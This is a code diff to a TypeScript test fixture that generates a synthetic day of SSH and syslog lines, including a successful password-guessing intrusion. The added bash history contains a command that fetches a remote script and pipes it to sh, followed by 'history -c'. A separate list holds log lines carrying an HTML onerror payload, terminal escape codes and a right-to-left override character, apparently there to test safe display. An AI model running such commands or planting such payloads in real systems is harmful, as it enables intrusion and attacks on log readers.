@@ -11,15 +11,23 @@ export const STORY_NOW_US = Date.parse('2026-11-20T14:32:08Z') * 1000;
 
 const AUTH = '/var/log/auth.log';
 const SYSLOG = '/var/log/syslog';
+const HISTORY = '/home/deploy/.bash_history';
 const MINUTE_US = 60_000_000;
 
 /**
- * A day on four machines: everyday lines, a password guesser who gets in, another who tries names, a new account,
- * and lines that mean to harm whoever reads them. Always the same.
+ * A day on four machines: everyday lines, a password guesser who gets in and runs what he fetched, another who tries
+ * names, a new account, and lines that mean to harm whoever reads them. Always the same.
  */
 export function storyLines(): StoryLine[] {
   const random = generator(20261120);
-  const lines = [...everyday(random), ...guesser(random), ...names(random), ...hands(), ...hostile()];
+  const lines = [
+    ...everyday(random),
+    ...guesser(random),
+    ...names(random),
+    ...hands(),
+    ...typed(),
+    ...hostile(),
+  ];
   return lines.sort((a, b) => a.timeUs - b.timeUs);
 }
 
@@ -85,20 +93,20 @@ function* guesser(random: () => number): Generator<StoryLine> {
       at,
       'pi1',
       AUTH,
-      `sshd[${2100 + i}]: Failed password for backup from 203.0.113.45 port ${port} ssh2`,
+      `sshd[${2100 + i}]: Failed password for deploy from 203.0.113.45 port ${port} ssh2`,
     );
   }
   yield syslog(
     ago(18.2),
     'pi1',
     AUTH,
-    'sshd[2161]: Accepted password for backup from 203.0.113.45 port 48812 ssh2',
+    'sshd[2161]: Accepted password for deploy from 203.0.113.45 port 48812 ssh2',
   );
   yield syslog(
     ago(18.1),
     'pi1',
     AUTH,
-    'sshd[2161]: pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)',
+    'sshd[2161]: pam_unix(sshd:session): session opened for user deploy(uid=1004) by (uid=0)',
   );
 }
 
@@ -140,7 +148,7 @@ function* hands(): Generator<StoryLine> {
     ago(180),
     'pi2',
     AUTH,
-    'sshd[900]: Accepted publickey for anna from 192.168.1.20 port 51022 ssh2: ED25519 SHA256:bM4mM1m3fU0sJ7gQpAqk1m3vG9sYd0r6Jt4ZxWc2h5E',
+    'sshd[900]: Accepted publickey for anna from 198.18.0.20 port 51022 ssh2: ED25519 SHA256:bM4mM1m3fU0sJ7gQpAqk1m3vG9sYd0r6Jt4ZxWc2h5E',
   );
   yield syslog(
     ago(179),
@@ -152,7 +160,7 @@ function* hands(): Generator<StoryLine> {
     ago(16.5),
     'pi1',
     AUTH,
-    'sudo:   backup : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/var/backups ; USER=root ; COMMAND=/bin/bash',
+    'sudo:   deploy : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash',
   );
   yield syslog(
     ago(15.1),
@@ -162,11 +170,25 @@ function* hands(): Generator<StoryLine> {
   );
 }
 
+/** What bash keeps: a time stamp of its own before each command. */
+function* typed(): Generator<StoryLine> {
+  const commands: readonly (readonly [number, string])[] = [
+    [17.8, 'id'],
+    [17.5, 'curl -fsSL http://198.51.100.77/x.sh | sh'],
+    [14.9, 'history -c'],
+  ];
+  for (const [minutes, command] of commands) {
+    const timeUs = ago(minutes);
+    for (const text of [`#${Math.floor(timeUs / 1_000_000)}`, command])
+      yield { timeUs, host: 'pi1', path: HISTORY, text };
+  }
+}
+
 /** Text that would run, colour, reorder or hide if anything showed it as other than text. */
 export const HOSTILE = [
-  'sshd[4001]: Invalid user <img src=x onerror=alert(1)> from 192.0.2.66 port 52110',
-  'sshd[4002]: Invalid user \u001b[2J\u001b[31mroot\u001b[0m from 192.0.2.66 port 52111',
-  'sshd[4003]: Invalid user \u202egnp.tset from 192.0.2.66 port 52112',
+  'sshd[4001]: Invalid user <img src=x onerror=alert(1)> from 198.51.100.66 port 52110',
+  'sshd[4002]: Invalid user \u001b[2J\u001b[31mroot\u001b[0m from 198.51.100.66 port 52111',
+  'sshd[4003]: Invalid user \u202egnp.tset from 198.51.100.66 port 52112',
 ];
 
 function* hostile(): Generator<StoryLine> {
